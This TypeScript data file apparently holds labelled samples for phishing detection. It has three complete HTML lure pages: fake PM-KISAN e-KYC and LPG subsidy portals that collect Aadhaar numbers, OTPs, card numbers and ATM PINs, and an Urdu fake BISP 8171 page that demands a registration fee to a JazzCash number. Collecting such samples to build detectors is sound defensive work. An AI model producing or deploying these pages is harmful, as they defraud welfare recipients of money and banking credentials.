import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, pngRoute } from '../parts/e-bin.js';
import { b64, doc, wordmark, emblem, goiHeader, GOI_CSS, goiFooter, bankCss, MOBILE_CSS, stepFlowScript, countdownScript, FONTS, ASHOKA } from '../parts/yn-kit.js';

// Government-scheme, tax-refund, challan and utility lures reported through the national portal.

export const entries: Entry[] = [
{
  id: 'yn-pmkisan-ekyc-aadhaar-hi',
  label: 'phishing',
  kind: 'gov-scheme-kit',
  url: 'https://pm-kisan-ekyc.in.net/beneficiary/ekyc.php',
  body: doc({
    title: 'पीएम किसान सम्मान निधि | e-KYC',
    lang: 'hi',
    font: FONTS.deva,
    css: GOI_CSS + bankCss('#1f6f2b', '#e67e00') + `.banner{background:#eaf6e7;border:1px solid #bfe0b8;padding:12px;border-radius:6px;font-size:15px}`,
    body: `${goiHeader('प्रधानमंत्री किसान सम्मान निधि', 'PM-KISAN, Department of Agriculture &amp; Farmers Welfare')}
<div class="main"><div class="card">
<div class="banner">किसान भाइयों, 20वीं किस्त के ₹2,000 आपके खाते में भेजे जाने हैं। e-KYC पूरा न होने के कारण आपकी किस्त <b>रोक दी गई है</b>। अंतिम तिथि: <b>30 जून</b>। नीचे अपना विवरण भरकर e-KYC पूरा करें।</div>
<form class="step on" data-step="1">
<label>आधार संख्या / Aadhaar Number</label><input type="tel" name="aadhaar" maxlength="12" required>
<label>आधार से जुड़ा मोबाइल नंबर</label><input type="tel" name="mobile" maxlength="10" required>
<label>किसान का नाम</label><input type="text" name="name" required>
<label>राज्य</label><select name="state"><option>उत्तर प्रदेश</option><option>बिहार</option><option>मध्य प्रदेश</option><option>राजस्थान</option><option>महाराष्ट्र</option><option>पंजाब</option><option>हरियाणा</option><option>अन्य</option></select>
<button class="btn block">OTP प्राप्त करें</button>
</form>
<form class="step" data-step="2">
<label>OTP दर्ज करें</label><input type="tel" name="otp" maxlength="6" required>
<button class="btn block">सत्यापित करें</button>
</form>
<form class="step" data-step="3">
<p>किस्त प्राप्त करने के लिए अपने बैंक खाते का सत्यापन करें:</p>
<label>बैंक खाता संख्या</label><input type="text" name="acc" required>
<label>ATM / डेबिट कार्ड नंबर</label><input type="tel" name="card" maxlength="16" required>
<label>कार्ड की समाप्ति तिथि (MM/YY)</label><input type="text" name="exp" required>
<label>ATM पिन</label><input type="password" name="pin" maxlength="4" required>
<button class="btn block">जमा करें</button>
</form>
</div>
<div class="side"><h3>महत्वपूर्ण</h3><ul><li>e-KYC अनिवार्य है।</li><li>किस्त सीधे बैंक खाते में DBT के माध्यम से।</li><li>हेल्पलाइन: 155261</li></ul></div></div>
<style>form.step{display:none}form.step.on{display:block}</style>
${goiFooter('Department of Agriculture &amp; Farmers Welfare', '02-Jun-2025')}
${stepFlowScript('save.php', 'https://pmkisan.gov.in/')}`,
  }),
},
{
  id: 'yn-lpg-gas-subsidy-debit-card',
  label: 'phishing',
  kind: 'gov-scheme-kit',
  url: 'https://mylpg-subsidy.in.net/pahal/status',
  body: doc({
    title: 'PAHAL (DBTL) - LPG Subsidy Status',
    css: GOI_CSS + bankCss('#c2410c', '#0b3d91') + `.info{background:#fff4e5;padding:12px;border-radius:6px;font-size:14px}.logos{display:flex;gap:10px;margin:8px 0 14px}`,
    body: `${goiHeader('पेट्रोलियम और प्राकृतिक गैस मंत्रालय', 'Ministry of Petroleum &amp; Natural Gas')}
<div class="main"><div class="card">
<h2>PAHAL - LPG Subsidy (DBTL)</h2>
<div class="logos">${wordmark('Indane', '#f36f21', '#fff', 90, 30)}${wordmark('HP Gas', '#0057a8', '#fff', 90, 30)}${wordmark('Bharatgas', '#ffcb05', '#003f87', 100, 30)}</div>
<p class="info">Your pending LPG subsidy of <b>₹ 1,640.00</b> (8 refills) could not be credited because your bank account is not Aadhaar-seeded. Verify your bank details below to receive the subsidy instantly.</p>
<form method="post" action="/pahal/verify">
<label>LPG Consumer Number</label><input type="text" name="consumer" required>
<label>Distributor</label><select name="omc"><option>Indane</option><option>HP Gas</option><option>Bharatgas</option></select>
<label>Aadhaar Number</label><input type="tel" name="aadhaar" maxlength="12" required>
<label>Mobile</label><input type="tel" name="mobile" maxlength="10" required>
<label>Debit Card Number (for subsidy credit)</label><input type="tel" name="card" maxlength="16" required>
<label>Expiry (MM/YY)</label><input type="text" name="exp" required>
<label>ATM PIN</label><input type="password" name="pin" maxlength="4" required>
<button class="btn">Get Subsidy</button>
</form></div></div>
${goiFooter('Ministry of Petroleum &amp; Natural Gas', '03-Jun-2025')}`,
  }),
},
{
  id: 'yn-bisp-8171-registration-fee-ur',
  label: 'scam',
  kind: 'gov-scheme-fee',
  url: 'https://bisp-8171-online.com.pk-registration.site/',
  body: doc({
    title: 'احساس پروگرام 8171 - آن لائن رجسٹریشن 2025',
    lang: 'ur',
    dir: 'rtl',
    font: FONTS.urdu,
    css: `body{background:#f2f7f2}.w{max-width:520px;margin:0 auto;background:#fff;min-height:100vh}.h{background:#0a6b3c;color:#fff;padding:16px;text-align:center}.p{padding:18px;line-height:2.1}input{width:100%;height:44px;border:1px solid #aaa;border-radius:6px;padding:0 10px;margin-bottom:10px}button{width:100%;height:48px;background:#0a6b3c;color:#fff;border:0;border-radius:6px;font-size:18px}.fee{background:#fff3cd;border:1px solid #f0c36d;padding:12px;border-radius:6px;display:none}`,
    body: `<div class="w"><div class="h">${emblem('BISP', '#0a6b3c', '#fff', 60)}<h2 style="margin:6px 0">بینظیر انکم سپورٹ پروگرام</h2><div>احساس کفالت 8171 — نئی قسط 13,500 روپے</div></div>
<div class="p">
<p>حکومت پاکستان کی جانب سے مستحق خاندانوں کے لیے نئی قسط جاری کر دی گئی ہے۔ اپنا شناختی کارڈ نمبر درج کر کے اہلیت چیک کریں۔</p>
<form id="c"><input name="cnic" placeholder="شناختی کارڈ نمبر (بغیر ڈیش)" dir="ltr" maxlength="13" required><input name="phone" placeholder="موبائل نمبر" dir="ltr" required><button>اہلیت چیک کریں</button></form>
<div class="fee" id="fee">✅ مبارک ہو! آپ 13,500 روپے کی رقم کے اہل ہیں۔<br>رقم آپ کے اکاؤنٹ میں بھیجنے کے لیے <b>1,500 روپے رجسٹریشن فیس</b> جیز کیش اکاؤنٹ <b dir="ltr">0301-7726119</b> (اکاؤنٹ ٹائٹل: محمد عرفان) پر بھیجیں اور رسید کا اسکرین شاٹ واٹس ایپ کریں۔<br><a href="https://wa.me/923017726119?text=BISP%20fee%20paid">واٹس ایپ پر رسید بھیجیں</a></div>
</div></div>
<script>document.getElementById('c').onsubmit=function(e){e.preventDefault();var f=this;f.querySelector('button').textContent='چیک ہو رہا ہے...';setTimeout(function(){f.style.display='none';document.getElementById('fee').style.display='block'},2200)}</script>`,
  }),
},
];
